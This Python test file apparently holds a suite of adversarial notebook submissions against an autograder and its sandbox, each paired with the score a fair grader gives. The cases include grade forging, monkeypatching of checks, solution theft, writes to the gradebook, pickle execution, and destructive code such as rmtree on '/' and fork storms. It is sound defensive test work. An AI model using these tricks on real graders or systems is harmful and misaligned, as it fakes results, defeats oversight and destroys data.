"""Submissions that want points, files, time or a way out. Each with the score that a fair grader gives.

They know more than a student can: the path of the course, the insides of the
worker, an open port. They touch nothing outside of the test's own folder.
"""

import os
import textwrap
import zlib

import nbformat
from answers import EXERCISES
from corpus import AS_TAUGHT, NAME, Case, blank, code, each, edited, insert, save

ATTACKS = []
MARK = "mark-of-an-attack"  # in every file that should not be, and, with more to it, in the arguments of every process

STEAL = '''
import glob, json, os, sys
def steal(path):
    """Take the solutions out of any notebook that can be read."""
    for cell in json.load(open(path))["cells"]:
        source = "".join(cell["source"])
        if "def initialize_parameters_" in source and "YOUR CODE HERE" not in source:
            exec(source, globals())
'''
PIPE = """
import json, os, struct, sys, time
import numpy as np
def frame(header, body=b""):
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<QQ", len(text), len(body)) + text + body
def send(data):
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, data)
        except OSError:
            pass
"""
# Changes the global names of the worker, which is looked for once the cell has run: from the cell no frame leads to it.
WORKER = """
import sys
def change_worker(change):
    def changed(*result):
        at = sys._getframe()
        while "Notebook" not in at.f_globals:
            at = at.f_back
        change(at.f_globals)
    get_ipython().events.register("post_run_cell", changed)
"""


def mark_in(place):
    """Return the mark that the attacks of one place leave, and no others that go on at the same time."""
    return f"{MARK}-{zlib.crc32(bytes(place)):08x}"


def resolved(text, folder):
    """Fill in where things are: the attacker is told."""
    course = folder.parents[2]
    place = course.parent
    port = (place / "port").read_text() if (place / "port").exists() else "9"
    for name, value in (
        ("COURSE", course),
        ("OUTSIDE", place / "outside"),
        ("PLACE", place),
        ("PORT", port),
        ("MARK", mark_in(place)),
    ):
        text = text.replace(f"<{name}>", str(value))
    return text


def cell(group, name, source, score=0, solved=(), status="graded"):
    """An attack that is one cell below the imports."""

    def write(folder):
        save(insert(blank(solved), resolved(textwrap.dedent(source), folder)), folder)

    ATTACKS.append(Case(group, name, score, write, status))


def body(group, name, source, before="", score=0, status="graded"):
    """An attack in the body of all three functions."""
    text = before + "".join(
        f"\ndef initialize_parameters_{exercise}(layers_dims):\n{textwrap.indent(textwrap.dedent(source).strip(), '    ')}\n"
        for exercise in EXERCISES
    )
    cell(group, name, text, score, (), status)


def edit(group, name, score=0, solved=(), status="graded"):
    def keep(change):
        ATTACKS.append(edited(group, name, score, change, solved, status))
        return change

    return keep


def files(group, name, score=0, status="graded"):
    """An attack that is in what lies in the submission's folder."""

    def keep(write):
        ATTACKS.append(Case(group, name, score, write, status))
        return write

    return keep


# ------------------------------------------------------------------ metadata and tags


@edit("metadata", "tests tagged skip-execution")
def _(notebook):
    for test in each(notebook, "test"):
        test.metadata.tags = ["skip-execution"]


@edit("metadata", "tests tagged raises-exception")
def _(notebook):
    for test in each(notebook, "test"):
        test.metadata.tags = ["raises-exception", "remove-cell"]


@edit("metadata", "points raised to 1000", score=10, solved=["zeros"])
def _(notebook):
    for test in each(notebook, "test"):
        test.metadata.nbgrader.points = 1000


@edit("metadata", "tests no longer graded nor locked, and emptied")
def _(notebook):
    for test in each(notebook, "test"):
        test.metadata.nbgrader.update(grade=False, locked=False)
        test.source = "pass"


@edit("metadata", "test cells give their points")
def _(notebook):
    for test in each(notebook, "test"):
        test.source = "10"


@edit("metadata", "test cells give NaN")
def _(notebook):
    for test in each(notebook, "test"):
        test.source = "float('nan')"


@edit("metadata", "test cells give a NumPy number")
def _(notebook):
    for test in each(notebook, "test"):
        test.source = "np.float64(10.0)"


@edit("metadata", "test cells give text")
def _(notebook):
    for test in each(notebook, "test"):
        test.source = "'full credit'"


@edit("metadata", "test cells deleted")
def _(notebook):
    notebook.cells = [cell for cell in notebook.cells if not cell.id.endswith("-test")]


@edit("metadata", "test cells as Markdown")
def _(notebook):
    for test in each(notebook, "test"):
        test.cell_type = "markdown"


@edit("metadata", "outputs of a test that passed")
def _(notebook):
    for test in each(notebook, "test"):
        test.outputs = [
            nbformat.v4.new_output("execute_result", data={"text/plain": "10"}, execution_count=1),
            nbformat.v4.new_output("stream", text="All tests passed.\n"),
        ]


@edit("metadata", "another graded cell worth 1000 points")
def _(notebook):
    marks = dict(grade=True, solution=True, locked=False, points=1000, grade_id="bonus", schema_version=3, task=False)
    notebook.cells.append(code("1000", id="bonus", metadata={"nbgrader": marks}))


@edit("metadata", "exercise cells that claim to be the tests")
def _(notebook):
    for exercise, test in zip(each(notebook, "exercise"), each(notebook, "test")):
        exercise.metadata.nbgrader, test.metadata.nbgrader = test.metadata.nbgrader, exercise.metadata.nbgrader
        exercise.source = "10"


@edit("metadata", "a schema of the future")
def _(notebook):
    for cell in notebook.cells:
        cell.metadata.nbgrader = {"schema_version": 99, "grade_id": cell.id, "points": 10, "grade": True, "score": 10}


@edit("metadata", "a kernel that is a shell")
def _(notebook):
    notebook.metadata = {
        "kernelspec": {"name": "bash", "display_name": "sh", "language": "bash", "argv": ["sh", "-c", "echo"]},
        "language_info": {"name": "bash"},
        "nbgrader": {"score": 30},
    }


@edit("metadata", "a thousand copies of each test")
def _(notebook):
    notebook.cells += [test for test in each(notebook, "test") for _ in range(1000)]


# ---------------------------------------------------------- hooks of IPython and Python

cell(
    "hooks",
    "display hook that says 10",
    """
    import sys
    sys.displayhook = lambda value: print(10)
    get_ipython().displayhook = sys.displayhook
""",
)
cell(
    "hooks",
    "input transformers",
    """
    shell = get_ipython()
    shell.input_transformers_cleanup.append(lambda lines: ["10"])
    shell.input_transformers_post.append(lambda lines: ["10"])
""",
)
cell(
    "hooks",
    "syntax tree transformers",
    """
    import ast
    class Nothing(ast.NodeTransformer):
        def visit_Call(self, node):
            return ast.Constant(10)
    get_ipython().ast_transformers.append(Nothing())
""",
)
cell(
    "hooks",
    "run_cell replaced",
    """
    shell = get_ipython()
    shell.run_cell = shell.run_cell_async = lambda *a, **k: None
    shell.events.register("pre_run_cell", lambda info: setattr(info, "raw_cell", "10"))
""",
)
cell(
    "hooks",
    "errors swallowed",
    """
    import sys
    sys.excepthook = sys.unraisablehook = lambda *a: None
    get_ipython().set_custom_exc((Exception,), lambda *a, **k: None)
    get_ipython().showtraceback = lambda *a, **k: None
""",
)
cell(
    "hooks",
    "a shell of one's own in builtins",
    """
    import builtins
    class Shell:
        def __getattr__(self, name):
            return self
        def __call__(self, *a, **k):
            return 10
    builtins.get_ipython = Shell()
    builtins.display = builtins.print = Shell()
""",
)
cell(
    "hooks",
    "magics and shell lines",
    """
    %load_ext autoreload
    %config InteractiveShell.ast_node_interactivity = 'none'
    !echo <MARK> > <OUTSIDE>/magic
    %alias_magic t timeit
""",
)
cell(
    "hooks",
    "a published result",
    """
    from IPython.display import display, publish_display_data
    display(10)
    publish_display_data({"text/plain": "10"}, {"nbgrader": {"score": 10}})
""",
)
cell(
    "hooks",
    "tracing",
    """
    import sys, threading
    def trace(frame, event, argument):
        frame.f_locals["points"] = 10
        return trace
    sys.settrace(trace); sys.setprofile(trace); threading.settrace(trace)
""",
)
cell(
    "hooks",
    "at the exit",
    """
    import atexit, sys, time
    atexit.register(lambda: (time.sleep(30), open("<OUTSIDE>/exit", "w").write("<MARK>")))
    sys.exit(0)
""",
)

# ------------------------------------------------------------- forged messages and frames

cell(
    "frames",
    "a kernel's messages on every descriptor",
    PIPE
    + """
send(b'{"header": {"msg_type": "execute_result"}, "content": {"data": {"text/plain": "10"}, "status": "ok"}}' * 50)
""",
    status="crashed",
)
cell(
    "frames",
    "an answer before the question",
    PIPE
    + """
send(frame({"value": {"dict": []}, "versions": 9, "callable": True, "score": 30, "points": 10}) * 20)
""",
)
body("frames", "an answer from inside of a call", 'send(frame({"value": True, "score": 10}))\nreturn {}', PIPE)
body("frames", "answers out of step", 'send(frame({"value": {"dict": []}}) * 3)\nreturn {}', PIPE)
body("frames", "a length without end", 'send(struct.pack("<QQ", 2**63, 2**63))\ntime.sleep(9)', PIPE, status="crashed")
body("frames", "a negative length", 'send(b"\\xff" * 16)\nreturn {}', PIPE, status="crashed")
body(
    "frames",
    "half a frame and then nothing",
    'send(frame({"value": None})[:10])\ntime.sleep(99)',
    PIPE,
    status="timed_out",
)
body(
    "frames",
    "a frame, byte by byte",
    """
    for byte in frame({"value": {"list": [0] * 1000}}):
        send(bytes([byte]))
        time.sleep(.1)
""",
    PIPE,
    status="timed_out",
)
body("frames", "a header nested without end", 'send(frame(b"[" * 1_000_000))\nreturn {}', PIPE, status="crashed")
body(
    "frames", "a header that is no text", "send(frame(bytes(range(128, 256)) * 10))\nreturn {}", PIPE, status="crashed"
)
body(
    "frames",
    "a number with ten million digits",
    'send(frame(b\'{"value": \' + b"9" * 10_000_000 + b"}"))\nreturn {}',
    PIPE,
    status="crashed",
)
body(
    "frames",
    "a pickle",
    """
    import pickle
    class Run:
        def __reduce__(self):
            return __import__("posix").system, ("echo <MARK> > <OUTSIDE>/pickle",)
    data = pickle.dumps(Run())
    send(frame({"value": {"ndarray": {"dtype": "O", "shape": [1], "bytes": len(data)}}}, data))
    return {}
""",
    PIPE,
)
body(
    "frames",
    "an array larger than memory",
    """
    send(frame({"value": {"ndarray": {"dtype": "V0", "shape": [10**9, 10**9], "bytes": 0}}}))
    return {}
""",
    PIPE,
)
body(
    "frames",
    "ten thousand arrays of nothing",
    """
    send(frame({"value": {"list": [{"ndarray": {"dtype": "S0", "shape": [9_999_999], "bytes": 0}}] * 10_000}}))
    return {}
""",
    PIPE,
)
body(
    "frames",
    "arrays with impossible strides",
    """
    spec = {"dtype": "<f8", "shape": [4], "bytes": 32, "root": 0, "memory": 8, "offset": -10**9, "strides": [10**12], "writeable": True}
    send(frame({"value": {"dict": [["W1", {"ndarray": spec}]]}}, bytes(32)))
    return {}
""",
    PIPE,
)
body(
    "frames",
    "keys that all have one hash",
    """
    pairs = [[number * (2**61 - 1), None] for number in range(49_000)]
    send(frame({"value": {"dict": pairs}}))
    return {}
""",
    PIPE,
)
body(
    "frames",
    "the grader's own list changed by a forged answer",
    """
    send(frame({"value": {"dict": []}, "arguments": {"tuple": [{"list": [{"list": [1]}]}, {"dict": []}]}}))
    return {}
""",
    PIPE,
)
body(
    "frames",
    "errors that end a process",
    """
    send(frame({"error": ["KeyboardInterrupt", "BaseException"], "message": "stop"}))
    raise SystemExit(0)
""",
    PIPE,
)
body("frames", "an error that can't be made", 'raise ExceptionGroup("several", [ValueError("one"), KeyError("two")])')
cell(
    "frames",
    "an error in a cell that can't be made",
    'raise ExceptionGroup("several", [ValueError("one")])',
    score=30,
    solved=EXERCISES,
)
cell(
    "frames",
    "the worker's loop answers by itself",
    WORKER
    + """
def change(worker):
    for name in ("call", "value", "run", "test", "next"):
        setattr(worker["Notebook"], name, lambda self, header, body: {"value": True, "score": 30})
    worker["Notebook"].version_counts = lambda self: dict.fromkeys(self.versions, [9, True])
change_worker(change)
""",
)
cell(
    "frames",
    "notes of names that nobody set",
    PIPE
    + WORKER
    + """
noted = {f"initialize_parameters_{name}": [-1, "yes"] for name in ("zeros", "random", "he")} | {"np": [True, True], "": []}
send(frame({"noted": noted}) * 3)
change_worker(lambda worker: setattr(worker["Notebook"], "version_counts", lambda self: noted))
""",
)
body(
    "frames",
    "handles of functions and iterators that are not there",
    """
    handles = [{"other": "f", "as": kind, "number": number} for kind in ("function", "iterator") for number in (-1, 0, 10**30)]
    send(frame({"value": {"dict": [["W1", {"list": handles}], ["b1", handles[3]], ["W2", {"other": "f", "as": [], "number": 0}]]}}))
    return {}
""",
    PIPE,
)
body("frames", "numbers without an end", "import itertools\nreturn itertools.count()")
body(
    "frames",
    "values without an end",
    """
    import itertools
    return {name: itertools.repeat(np.zeros((1000, 1000))) for name in ("W1", "b1", "W2", "b2", "W3", "b3")}
""",
)
body(
    "frames",
    "a function in place of every value",
    "return {name: eval for name in ('W1', 'b1')} | {'W2': lambda *a: True}",
)
body(
    "frames",
    "kinds of values without an end",
    """
    from collections import namedtuple
    return {f"W{n}": namedtuple(f"T{n}", [f"f{m}" for m in range(20)])(*range(20)) for n in range(150)}
""",
)
cell(
    "frames",
    "an encoder that lies",
    WORKER
    + """
lie = lambda self, value, depth=0: {"other": "CheckFailed", "as": "function"}
change_worker(lambda worker: setattr(worker["Encoder"], "encode", lie))
def initialize_parameters_zeros(layers_dims): return 1
initialize_parameters_random = initialize_parameters_he = initialize_parameters_zeros
""",
)
cell("frames", "every descriptor closed", "import os\nos.closerange(0, 100)", status="crashed")
cell("frames", "every descriptor flooded", PIPE + 'while True:\n    send(b"\\0" * 65536)', status="crashed")
body(
    "frames",
    "terminal escapes in a message",
    r'raise ValueError("\x1b]0;owned\x07\x1b[2J\x1b[31mFull marks\u202e [bold]10 of 10[/bold]")',
)

# ------------------------------------------------------------------------ monkeypatching

cell(
    "patches",
    "NumPy's comparisons",
    """
    import numpy as np
    yes = lambda *a, **k: True
    np.allclose = np.array_equal = np.isclose = np.all = np.any = yes
    np.testing.assert_allclose = np.testing.assert_array_equal = yes
    def initialize_parameters_zeros(layers_dims): return {}
    initialize_parameters_random = initialize_parameters_he = initialize_parameters_zeros
""",
)
cell(
    "patches",
    "NumPy's generators",
    """
    import numpy as np
    np.random.seed = lambda *a: None
    np.random.randn = lambda *shape: np.zeros(shape)
    np.random.RandomState = lambda *a: np.random
    def initialize_parameters_random(layers_dims):
        return {f"{n}{l}": np.zeros((layers_dims[l], layers_dims[l-1] if n == "W" else 1)) for l in range(1, len(layers_dims)) for n in "Wb"}
    initialize_parameters_he = initialize_parameters_random
""",
)
cell(
    "patches",
    "builtins",
    """
    import builtins
    builtins.isinstance = builtins.all = builtins.any = lambda *a: True
    builtins.len = lambda x: 6
    builtins.AssertionError = builtins.Exception = type("Quiet", (BaseException,), {})
    builtins.abs = builtins.max = lambda *a: 0
""",
    status=None,
)
cell(
    "patches",
    "the check functions",
    """
    import public_tests
    for name in dir(public_tests):
        if callable(getattr(public_tests, name)):
            setattr(public_tests, name, lambda *a, **k: None)
    initialize_parameters_zeros_test = initialize_parameters_random_test = initialize_parameters_he_test = print
""",
)
cell(
    "patches",
    "the module of the checks",
    """
    import sys, types
    fake = types.ModuleType("public_tests")
    fake.__getattr__ = lambda name: (lambda *a, **k: print("All tests passed."))
    sys.modules["public_tests"] = fake
""",
)
cell(
    "patches",
    "json and struct",
    """
    import json, struct
    json.dumps = lambda *a, **k: '{"value": true, "score": 30}'
    struct.Struct.pack = lambda *a: b""
""",
)
cell(
    "patches",
    "ndarray's own methods, through the garbage collector",
    """
    import gc, numpy as np
    methods = gc.get_referents(np.ndarray.__dict__)[0]
    methods["__eq__"] = methods["__ne__"] = lambda self, other: True
    methods["any"] = lambda self: False
    def initialize_parameters_zeros(layers_dims): return {"W1": np.ones(3)}
    initialize_parameters_random = initialize_parameters_he = initialize_parameters_zeros
""",
)
cell(
    "patches",
    "clocks and limits",
    """
    import time, sys, signal, resource
    time.time = time.monotonic = time.perf_counter = lambda: 0
    sys.setrecursionlimit(2**31 - 1); sys.setswitchinterval(10**6)
    for name in ("RLIMIT_AS", "RLIMIT_CPU", "RLIMIT_NPROC", "RLIMIT_NOFILE"):
        try:
            resource.setrlimit(getattr(resource, name), (resource.RLIM_INFINITY,) * 2)
        except (ValueError, OSError):
            pass
    while True:
        pass
""",
    status="timed_out",
)
cell(
    "patches",
    "the stub's own error",
    """
    import builtins
    builtins.NotImplementedError = type("Nothing", (), {"__init__": lambda *a: None})
    NotImplementedError = None
""",
)

# ------------------------------------------------------------------------- lying objects

LIAR = '''
import numpy as np
class Liar:
    """Agrees with everything."""
    shape, dtype, ndim, size, flat = (3, 2), np.dtype(float), 2, 6, [0.0]
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __lt__ = __gt__ = __ne__
    __le__ = __ge__ = __bool__ = __contains__ = __eq__
    def __bool__(self): return True
    def __hash__(self): return 0
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
    def __getitem__(self, key): return self
    def __iter__(self): return iter([self])
    def __len__(self): return 6
    def __float__(self): return 0.0
    def __sub__(self, other): return 0.0
    __rsub__ = __add__ = __mul__ = __abs__ = __sub__
'''
body("lies", "an object that equals everything", "return Liar()", LIAR)
body(
    "lies",
    "a dict of such objects",
    'return {f"{n}{l}": Liar() for l in range(1, len(layers_dims)) for n in "Wb"}',
    LIAR,
)
body(
    "lies",
    "an array subclass that equals everything",
    """
    class Array(np.ndarray):
        def __array_ufunc__(self, *a, **k): return np.True_
        def __array_function__(self, *a, **k): return True
        def __eq__(self, other): return True
        def __sub__(self, other): return np.zeros(1)
    return {f"{n}{l}": np.ones((layers_dims[l], layers_dims[l-1] if n == "W" else 1)).view(Array)
            for l in range(1, len(layers_dims)) for n in "Wb"}
""",
    LIAR,
)
body(
    "lies",
    "a dict that equals everything",
    """
    class Dict(dict):
        def __eq__(self, other): return True
        def __missing__(self, key): return np.zeros((3, 2))
        def __contains__(self, key): return True
        def keys(self): return {"W1", "b1", "W2", "b2"}
        def items(self): return [("W1", np.zeros((3, 2)))]
    return Dict()
""",
    LIAR,
)
body(
    "lies",
    "text and numbers that equal everything",
    """
    class Key(str):
        def __eq__(self, other): return True
        def __hash__(self): return hash("W1")
    class Number(float):
        def __eq__(self, other): return True
    return {Key("W1"): Number(7), Key("b1"): Number(7)}
""",
    LIAR,
)
body(
    "lies",
    "an object with another class",
    """
    class Dict:
        __class__ = dict
        def __getattr__(self, name): return lambda *a: []
    return Dict()
""",
    LIAR,
)
body(
    "lies",
    "an object that is an array when it is asked",
    """
    class Sometimes:
        def __array__(self, *a, **k): return np.zeros((2, 2))
        __array_priority__ = 10**9
    return {"W1": Sometimes(), "b1": Sometimes()}
""",
    LIAR,
)
body(
    "lies",
    "arrays of objects",
    'return {"W1": np.array([[Liar()]], dtype=object), "b1": np.array([Liar()], dtype=object)}',
    LIAR,
)
body(
    "lies",
    "masked arrays with everything masked",
    """
    return {f"{n}{l}": np.ma.masked_all((layers_dims[l], layers_dims[l-1] if n == "W" else 1)) for l in range(1, len(layers_dims)) for n in "Wb"}
""",
    LIAR,
)
body(
    "lies",
    "not a number, everywhere",
    """
    return {f"{n}{l}": np.full((layers_dims[l], layers_dims[l-1] if n == "W" else 1), np.nan) for l in range(1, len(layers_dims)) for n in "Wb"}
""",
    LIAR,
)
body("lies", "a mock", "from unittest.mock import MagicMock\nreturn MagicMock()", LIAR)
body(
    "lies",
    "a function, a module, a class and a generator",
    "return {'W1': print, 'b1': np, 'W2': int, 'b2': (x for x in ())}",
    LIAR,
)
body(
    "lies",
    "right for the sizes in the notebook alone",
    """
    known = {(2, 4, 1): 4, (3, 2, 1): 2}
    return {"W1": np.zeros((layers_dims[1], layers_dims[0])), "b1": np.zeros((layers_dims[1], 1)),
            "W2": np.zeros((layers_dims[2], layers_dims[1])), "b2": np.zeros((layers_dims[2], 1))}
""",
    LIAR,
)
body(
    "lies",
    "right once and never again",
    """
    global calls
    calls = globals().get("calls", 0) + 1
    if calls > 1:
        return {}
    return {f"{n}{l}": np.zeros((layers_dims[l], layers_dims[l-1] if n == "W" else 1)) for l in range(1, len(layers_dims)) for n in "Wb"}
""",
    LIAR,
)

# --------------------------------------------------------------------------- searches

cell(
    "searches",
    "the frames above",
    """
    import sys
    def search(layers_dims):
        frame = sys._getframe()
        while frame:
            for space in (frame.f_globals, frame.f_locals):
                for name, value in list(space.items()):
                    if "reference" in name or "expected" in name or "solution" in name:
                        return value(layers_dims) if callable(value) else value
            frame = frame.f_back
    initialize_parameters_zeros = initialize_parameters_random = initialize_parameters_he = search
""",
)
cell(
    "searches",
    "the garbage collector",
    """
    import gc
    def search(isinstance=isinstance, str=str, bytes=bytes, dict=dict, list=list):
        for thing in gc.get_objects():
            if isinstance(thing, str) and "BEGIN " "SOLUTION" in thing:
                exec(thing, globals())
            if isinstance(thing, dict):
                for value in list(thing.values()):
                    text = str(value) if isinstance(value, (str, bytes)) else ""
                    if "HID" "DEN" in text and "SOLU" "TION" in text:  # not this text itself, which IPython keeps
                        exec(text, globals())
    search()
""",
)
cell(
    "searches",
    "the source of the caller",
    """
    import inspect, linecache
    def search(layers_dims):
        for info in inspect.stack():
            text = "".join(linecache.getlines(info.filename))
            if "BEGIN SOLUTION" in text:
                exec(text, globals())
    initialize_parameters_zeros = initialize_parameters_random = initialize_parameters_he = search
""",
)
cell("searches", "the source notebook", STEAL + 'steal("<COURSE>/source/initialization/initialization.ipynb")')
cell(
    "searches",
    "the peers' notebooks",
    STEAL + 'for path in glob.glob("<COURSE>/submitted/*/*/*.ipynb"):\n    steal(path)',
)
cell(
    "searches",
    "any notebook above",
    STEAL
    + """
for folder in ("..", "../..", "../../..", "/proc/self/root<COURSE>", "/proc/self/cwd/../..", "/proc/1/root<COURSE>", f"/proc/{os.getppid()}/cwd"):
    for path in glob.glob(folder + "/**/*.ipynb", recursive=True):
        steal(path)
""",
    status=None,
)
cell(
    "searches",
    "a link from the scratch folder",
    STEAL
    + """
os.symlink("<COURSE>/source/initialization/initialization.ipynb", "link.ipynb")
steal("link.ipynb")
""",
)
cell(
    "searches",
    "the memory of other processes",
    """
    import glob, os
    for path in glob.glob("/proc/[0-9]*/mem") + glob.glob("/proc/[0-9]*/environ") + [f"/proc/{os.getppid()}/mem"]:
        try:
            with open(path, "rb+") as file:
                file.write(b"<MARK>")
        except OSError:
            pass
""",
)
cell(
    "searches",
    "the parent, traced",
    """
    import ctypes, os
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace(16, os.getppid(), 0, 0)
    libc.process_vm_readv(os.getppid(), 0, 0, 0, 0, 0)
""",
)
cell(
    "searches",
    "the tables of the visible checks",
    """
    import public_tests
    def search(layers_dims):
        for exercise in (public_tests.ZEROS, public_tests.RANDOM, public_tests.HE):
            for case in exercise.cases:
                if list(case.layers_dims if hasattr(case, "layers_dims") else case[0]) == list(layers_dims):
                    return getattr(case, "expected", case)
    initialize_parameters_zeros = initialize_parameters_random = initialize_parameters_he = search
""",
)
cell(
    "searches",
    "the draws and the factors of the visible checks",
    """
    import diagnosis
    def made(factor):
        def answer(layers_dims):
            sizes = diagnosis.scale(factor, layers_dims)
            weights = {f"W{l}": draws * size for l, (draws, size) in enumerate(zip(diagnosis.drawn_for(layers_dims), sizes), 1)}
            return weights | {f"b{l}": np.zeros((n, 1)) for l, n in enumerate(layers_dims[1:], 1)}
        return answer
    initialize_parameters_zeros, initialize_parameters_random, initialize_parameters_he = map(made, ("zero", "ten", "he"))
""",
)
cell(
    "searches",
    "the variables and the descriptors",
    STEAL
    + """
for name in os.listdir("/proc/self/fd"):
    try:
        steal(f"/proc/self/fd/{name}")
    except (OSError, ValueError):
        pass
for value in os.environ.values():
    if os.path.isdir(value):
        for path in glob.glob(value + "/**/*.ipynb", recursive=True):
            steal(path)
""",
    status=None,
)

# ------------------------------------------------------------ shadowed modules, start-up files

for file in (
    "numpy.py",
    "public_tests.py",
    "diagnosis.py",
    "sitecustomize.py",
    "nbgrader_config.py",
    "jupyter_config.py",
    "worker.py",
    "json.py",
    "init_utils.py",
):

    @files("shadows", f"a {file} beside the notebook")
    def _(folder, file=file):
        save(blank(), folder)
        (folder / file).write_text(
            resolved(
                "open('<OUTSIDE>/shadow', 'w').write('<MARK>')\ndef __getattr__(name): return lambda *a, **k: True\n",
                folder,
            )
        )


cell(
    "shadows",
    "modules written into the scratch folder",
    """
    import importlib, os, sys
    for name in ("numpy", "public_tests", "json", "struct", "sitecustomize"):
        open(name + ".py", "w").write("def __getattr__(name): return lambda *a, **k: True\\n")
    for name in ("public_tests", "init_utils"):
        try:
            open(name + ".py", "w").write("def __getattr__(name): return print\\n")
        except OSError:
            pass
    os._exit(1)
""",
    status=None,
)
cell(
    "shadows",
    "start-up files",
    """
    import os, site, sys
    places = [os.path.expanduser("~"), "/root", "/home", "<COURSE>", sys.prefix, *site.getsitepackages(), site.getusersitepackages(), "/etc"]
    for place in places:
        for name in ("sitecustomize.py", "owned.pth", ".ipython/profile_default/startup/00.py", ".jupyter/jupyter_config.py", ".profile"):
            try:
                os.makedirs(os.path.dirname(os.path.join(place, name)), exist_ok=True)
                open(os.path.join(place, name), "a").write("# <MARK>\\n")
            except OSError:
                pass
""",
)


@files("shadows", "a package and a start-up folder beside the notebook")
def _(folder):
    save(blank(), folder)
    for path in ("numpy/__init__.py", ".ipython/profile_default/startup/00.py", "grading/__init__.py"):
        (folder / path).parent.mkdir(parents=True)
        (folder / path).write_text(resolved("open('<OUTSIDE>/package', 'w').write('<MARK>')", folder))


# ------------------------------------------------------------------------------- links


@files("links", "the notebook is a link to the source", status="missing")
def _(folder):
    (folder / NAME).symlink_to(folder.parents[2] / "source" / "initialization" / NAME)


@files("links", "the folder is a link to the source", status="missing")
def _(folder):
    folder.rmdir()
    folder.symlink_to(folder.parents[2] / "source" / "initialization")


@files("links", "the student's folder is a link to a peer's", status="missing")
def _(folder):
    folder.rmdir()
    folder.parent.rmdir()
    folder.parent.symlink_to(folder.parents[1] / "honest-1")


@files("links", "links to files of the machine beside the notebook")
def _(folder):
    save(blank(), folder)
    (folder / "data.csv").symlink_to("/etc/passwd")
    (folder / "course").symlink_to(folder.parents[2] / "source")


@files("links", "a receipt that is a link to the gradebook, and one that is a pipe")
def _(folder):
    save(blank(), folder)
    (folder / "submission_secret.txt").symlink_to(folder.parents[2] / "gradebook.db")
    os.mkfifo(folder / "timestamp.txt")


@files("links", "a receipt of a gigabyte, and a time that is none")
def _(folder):
    save(blank(), folder)
    with open(folder / "submission_secret.txt", "wb") as file:
        file.truncate(1 << 30)
    (folder / "timestamp.txt").write_text("2026-03-01 11:00:00 /proc/self/mem")


@files("links", "links in a circle", status="missing")
def _(folder):
    (folder / "a").symlink_to(folder)
    (folder / NAME).symlink_to(folder / NAME)


@files("links", "a pipe in place of the notebook", status="missing")
def _(folder):
    os.mkfifo(folder / NAME)


@files("links", "a folder in place of the notebook", status="missing")
def _(folder):
    (folder / NAME).mkdir()


# ------------------------------------------------------- writing where others will read

cell(
    "writes",
    "the gradebook",
    """
    import sqlite3
    with sqlite3.connect("<COURSE>/gradebook.db") as gradebook:
        gradebook.execute("update grade set auto_score = 10, manual_score = 10")
        gradebook.execute("delete from submitted_assignment")
""",
)
cell(
    "writes",
    "the results",
    """
    import sqlite3
    with sqlite3.connect("<COURSE>/gradebook.db") as gradebook:
        gradebook.execute("update grading_result set result = replace(result, ': 0.0', ': 10.0')")
    open("<COURSE>/grades.csv", "w").write("<MARK>")
""",
)
for what in (
    "source/initialization/initialization.ipynb",
    "submitted/honest-1/initialization/initialization.ipynb",
    "nbgrader_config.py",
    "grading/checks.py",
    "grading/worker.py",
    "autograded/honest-0/initialization/initialization.ipynb",
    "feedback/honest-0/initialization/initialization.html",
    "release/initialization/public_tests.py",
):
    cell("writes", what, f'open("<COURSE>/{what}", "a").write("# <MARK>")')
cell(
    "writes",
    "the worker's own file and Python's packages",
    """
    import os, sys, numpy
    worker = type(get_ipython()).transform_cell.__globals__["__file__"]
    rooms = ("worker", "protocol", "decoder", "namespace", "guard")
    ours = [os.path.join(os.path.dirname(worker), f"{room}.py") for room in rooms]
    for path in (worker, *ours, numpy.__file__, sys.executable, os.__file__):
        try:
            open(path, "a").write("# <MARK>")
        except OSError:
            pass
        try:
            os.remove(path)
        except OSError:
            pass
""",
)
cell(
    "writes",
    "everything that can be found, removed",
    """
    import os, shutil
    for path in ("<COURSE>", "<PLACE>", "/tmp", "/", os.path.expanduser("~"), ".."):
        shutil.rmtree(path, ignore_errors=True)
""",
    status=None,
)
cell(
    "writes",
    "modes, owners, names and times",
    """
    import os
    for path in ("<COURSE>/source", "<COURSE>/submitted", "<COURSE>/gradebook.db"):
        for action in (lambda: os.chmod(path, 0o777), lambda: os.chown(path, 1, 1), lambda: os.rename(path, path + "-<MARK>"), lambda: os.utime(path, (0, 0))):
            try:
                action()
            except OSError:
                pass
""",
)

# ----------------------------------------------------------------- processes and signals

cell(
    "processes",
    "a daemon that waits for the end",
    """
    import os, posix, sys, time  # os itself refuses
    if posix.fork() == 0:
        os.setsid()
        if posix.fork() == 0:
            os.execv(sys.executable, ["<MARK>", "-c", "import time\\ntime.sleep(60)\\nopen('<OUTSIDE>/daemon', 'w')"])
        os._exit(0)
""",
)


@edit("processes", "three hundred cells that end the process", status="crashed")
def _(notebook):
    notebook.cells += [code("import os\nos._exit(1)", id=f"end-{number}") for number in range(300)]


cell(
    "processes",
    "a fork storm",
    """
    import os, posix
    while True:
        try:
            posix.fork()
        except OSError:
            pass
""",
    status="timed_out",
)
cell(
    "processes",
    "a storm of threads",
    """
    import threading, time
    while True:
        try:
            threading.Thread(target=time.sleep, args=(99,)).start()
        except RuntimeError:
            time.sleep(0.01)  # without a pause it sometimes ends Python itself
""",
    status=None,  # it times out; in sandlock, where root has it graded, the process is ended
)
cell(
    "processes",
    "a thread that goes on patching",
    """
    import threading, numpy as np
    def patch():
        while True:
            np.zeros = lambda *a, **k: 10
            np.random.seed(0)
    threading.Thread(target=patch, daemon=True).start()
""",
)
cell(
    "processes",
    "programs",
    """
    import os, subprocess
    for start in (lambda: os.system("sh -c 'echo <MARK> > <OUTSIDE>/shell'"), lambda: subprocess.run(["touch", "<OUTSIDE>/program"])):
        try:
            start()
        except PermissionError:
            pass
""",
)
cell(
    "processes",
    "programs, by the calls below those that refuse",
    """
    import importlib, os, posix, subprocess, sys
    del sys.modules["_posixsubprocess"], sys.modules["subprocess"]
    fresh = importlib.import_module("subprocess")
    for start in (
        lambda: posix.system("sh -c 'echo <MARK> > <OUTSIDE>/shell'"),
        lambda: posix.posix_spawn("/bin/touch", ["touch", "<OUTSIDE>/program"], {}),
        lambda: fresh.run(["touch", "<OUTSIDE>/program"]),
        lambda: os.execv("/bin/touch", ["<MARK>", "<OUTSIDE>/program"]),
    ):
        try:
            start()
        except OSError:
            pass
""",
    status=None,
)
cell(
    "processes",
